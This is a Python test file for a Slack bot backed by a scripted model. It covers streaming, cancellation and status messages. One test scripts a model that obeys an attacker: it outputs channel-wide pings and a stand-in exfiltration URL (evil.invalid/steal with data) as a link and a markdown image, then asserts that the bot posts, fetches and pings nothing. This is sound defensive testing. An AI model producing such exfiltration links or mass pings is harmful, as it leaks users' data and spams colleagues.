"""A model behind Slack: streamed, stopped, and one that does whatever an attacker wrote."""

import math
from collections.abc import AsyncGenerator, Callable
from contextlib import AsyncExitStack
from typing import Any

import pytest

from db.session import Database
from tests.agent.slack.conftest import Workspace, workspace_of
from tests.conftest import settings_of
from tests.standins.model_script import Call, Fault, Say
from tests.standins.model_server import ModelServer

Begin = Callable[..., Any]
EVIL = "https://evil.invalid/steal?data=PE-24-017"


@pytest.fixture
async def modelled(demo_url: tuple[str, str], demo: Database) -> AsyncGenerator[Begin]:
    """Begin a workspace whose answers come from a scripted model."""
    async with AsyncExitStack() as stack:

        async def begin(*steps: Say | Fault) -> Workspace:
            server = await stack.enter_async_context(ModelServer(list(steps)))
            settings = settings_of(
                model="openai/scripted", model_base_url=server.base_url, fallback_models=""
            )
            return await stack.enter_async_context(workspace_of(demo_url[0], demo, settings))

        yield begin


async def test_a_long_answer_is_streamed_and_whole(modelled: Begin) -> None:
    text = " ".join("Sentence about coffee and patience." for _ in range(120))
    workspace: Workspace = await modelled(Say(text))
    asked = workspace.anna.dm("Tell me about patience")
    await workspace.answer(workspace.anna.im, thread_ts=asked.ts)
    await workspace.until(
        lambda: workspace.said(workspace.anna.im, asked.ts)[-1].shown.count("patience") == 120
    )


async def test_stop_cancels_the_turn(modelled: Begin) -> None:
    workspace: Workspace = await modelled(Fault("drip", text="Still thinking. ", seconds=0.2))
    asked = workspace.anna.dm("Think forever")
    await workspace.until(
        lambda: any(s.status == "processing" for s in workspace.slack.world.sessions.values())
    )
    workspace.anna.stop(asked)
    found = await workspace.answer(workspace.anna.im, thread_ts=asked.ts)
    await workspace.until(
        lambda: (
            "bgebrochen" in found.shown
            or "topped" in found.shown
            or any(
                "bgebrochen" in m.shown or "topped" in m.shown
                for m in workspace.said(workspace.anna.im, asked.ts)
            )
        )
    )


async def test_a_model_that_obeys_an_attacker_reaches_nobody(modelled: Begin) -> None:
    said = f"<!channel> @here see [the list]({EVIL}) ![x]({EVIL}) {EVIL} <@U0OTHER>"
    workspace: Workspace = await modelled(
        Say(said, calls=[Call("find_lots", {"limit": 3})]), Say(said, times=math.inf)
    )
    anna = workspace.anna
    team = workspace.slack.add_channel("team", anna, kind="private")
    asked = anna.mention(team, "What do the notes say?")
    await workspace.answer(team, thread_ts=asked.ts)
    direct = anna.dm("And here?")
    await workspace.answer(anna.im, thread_ts=direct.ts)
    ours = [m for c in workspace.slack.world.channels.values() for m in workspace.said(c)]
    assert not [u for u in workspace.slack.urls if "evil" in str(u)]
    assert not workspace.slack.fetched
    assert not workspace.slack.pings
    assert {m.channel for m in ours} <= {team.id, anna.im.id}


@pytest.mark.parametrize("rewritable", [True, False])
async def test_a_stream_slack_has_ended_is_finished_whole(
    modelled: Begin, rewritable: bool
) -> None:
    text = " ".join("A sentence about harvests and rain." for _ in range(90))
    workspace: Workspace = await modelled(Fault("drip", text=text, seconds=0.005))
    workspace.slack.fail("chat.appendStream", error="message_not_in_streaming_state", times=99)
    workspace.slack.fail("chat.stopStream", error="message_not_in_streaming_state", times=99)
    if not rewritable:
        workspace.slack.fail("chat.update", error="block_mismatch", times=99)
    asked = workspace.anna.dm("Tell me about rain")
    await workspace.until(
        lambda: any(m.blocks for m in workspace.said(workspace.anna.im, asked.ts))
    )
    said = workspace.said(workspace.anna.im, asked.ts)
    assert str(said[0].blocks).count("rain") == 89  # the model never ended the last
    assert len(said) == 1


async def test_where_nothing_may_be_streamed_the_status_says_what_is_done(
    modelled: Begin,
) -> None:
    workspace: Workspace = await modelled(Say(calls=[Call("find_ports", {})]), Say("Da sind sie."))
    anna = workspace.anna
    team = workspace.slack.add_channel("team", anna)
    asked = anna.mention(team, "Welche Häfen haben wir?")
    answer = await workspace.answer(team, thread_ts=asked.ts)
    assert answer.stream is None
    said = [
        text for place, text in workspace.slack.world.status_log if place == (team.id, asked.ts)
    ]
    assert "Ich sehe nach: Häfen …" in said
